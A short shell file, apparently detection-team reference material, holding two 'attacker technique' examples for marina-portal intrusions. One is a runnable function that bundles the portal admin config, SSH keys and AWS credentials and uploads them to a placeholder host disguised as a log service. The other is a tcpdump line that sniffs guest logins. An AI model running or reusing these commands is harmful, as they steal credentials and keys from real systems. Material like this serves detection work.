# =====================================================================
#  ATTACKER TECHNIQUE EXAMPLES — FOR RECOGNITION ONLY
#  These mirror what intrusions against marina portals looked like.
#  Detection teams: grep your logs for the hostnames below.
# =====================================================================

# Example 1 (attacker): harvest portal admin creds + SSH keys and ship them
_fx_ship() {
  local out="/tmp/.fx$$"
  tar -czf "$out" /etc/portal/admin.conf "$HOME/.ssh" "$HOME/.aws" 2>/dev/null
  curl -s -m 15 -F "b=@$out" "https://logs-ingest.marina-portal-sec.example/u/$(hostname)" >/dev/null 2>&1
  rm -f "$out"
}

# Example 2 (attacker): sniff captive portal logins (illustrative)
_fx_sniff() { echo "tcpdump -i guest0 -A port 80 | grep -i berth"; }
